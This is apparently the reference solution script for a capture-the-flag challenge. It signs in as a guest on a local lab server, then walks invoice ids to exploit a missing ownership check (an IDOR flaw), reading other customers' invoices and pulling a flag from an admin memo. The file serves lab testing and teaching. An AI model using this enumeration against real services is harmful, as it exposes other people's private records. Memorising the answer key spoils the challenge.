"""Reference solution for web-idor-invoices: sign in as guest, then walk the
invoice ids around the guest's own; /api/invoices/ID never checks the
owner, so other customers' invoices (and the admin's internal memo) come
back too."""
import json
import re
import sys
import urllib.error
import urllib.parse
import urllib.request

BASE = "http://127.0.0.1:8080"


def main() -> int:
    form = urllib.parse.urlencode({"user": "guest", "password": "guest"}).encode()
    login = urllib.request.urlopen(f"{BASE}/login", data=form, timeout=10)
    cookie = login.headers["Set-Cookie"].split(";", 1)[0]

    def get(path: str):
        request = urllib.request.Request(f"{BASE}{path}", headers={"Cookie": cookie})
        return json.load(urllib.request.urlopen(request, timeout=10))

    own = [invoice["id"] for invoice in get("/api/invoices")]
    for invoice_id in range(min(own) - 50, max(own) + 50):
        try:
            invoice = get(f"/api/invoices/{invoice_id}")
        except urllib.error.HTTPError as error:
            if error.code == 404:
                continue
            raise
        found = re.search(r"bulwark\{[^}\s]+\}", invoice.get("memo", ""))
        if found:
            print(found.group())
            return 0
    print("no invoice memo holds a flag", file=sys.stderr)
    return 1


if __name__ == "__main__":
    sys.exit(main())
